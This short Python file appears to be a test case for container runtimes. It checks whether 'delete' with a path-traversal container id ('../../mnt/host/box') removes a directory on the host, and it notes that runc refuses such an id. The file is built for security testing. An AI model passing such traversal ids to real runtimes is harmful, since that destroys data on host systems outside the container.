"""`delete` of an id that is a path removes a directory of the host, and all in it."""

import os

from bypass import refused

SOURCE = "idea"
WAY = "arguments"
STOPPED = refused("argument")
BARE = {"runc": "runc refuses such an id"}


def attack(t):
    t.plant("/mnt/host/box/file")
    t.call("delete", "--force", "../../mnt/host/box")
    return not os.path.exists("/mnt/host/box/file") and "removed"
